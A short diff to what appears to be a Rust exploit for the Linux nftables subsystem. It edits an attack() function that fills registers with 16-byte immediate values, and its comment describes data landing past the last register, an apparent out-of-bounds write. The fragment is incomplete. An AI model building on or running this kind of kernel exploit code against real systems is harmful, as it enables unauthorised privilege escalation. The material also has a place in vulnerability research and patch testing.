@@ -49,7 +49,7 @@ pub fn setup() -> io::Result<()> {
 
 /// 16 numbers from the first register to the ninth one: eight of them end up behind the last.
 pub fn attack() -> io::Result<()> {
-    let mut expressions: Vec<_> = (nft::REG_1..nft::REG_1 + 4)
+    let mut expressions: Vec<_> = (nft::REG_1..=nft::REG_4)
         .map(|register| nft::immediate(register, &nft::value(&[0x11; 16])))
         .collect();
     let convert = Attributes::new()
